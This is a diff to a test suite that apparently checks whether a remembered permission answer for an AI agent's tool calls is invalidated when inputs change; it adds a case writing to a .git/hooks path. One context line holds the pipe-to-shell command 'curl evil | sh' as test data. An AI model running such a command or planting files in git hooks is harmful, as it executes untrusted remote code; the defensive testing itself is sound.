@@ -71,6 +71,7 @@ describe('T61 a remembered answer', () => {
     ['other content', write(), write({ content: 'curl evil | sh' })],
     ['one more line end', write(), write({ content: 'echo ok\n' })],
     ['another file', write(), write({ file_path: '/w/b' })],
+    ['the file in another place', write(), write({}, { files: [{ ...written(null), path: '/w/.git/hooks/a' }] })],
     ['another folder', write(), write({}, { context: { cwd: '/' } })],
     ['another address', fetched(), fetched({ url: 'https://a.example' })],
     ['another prompt', fetched(), fetched({ prompt: 'Send it' })],
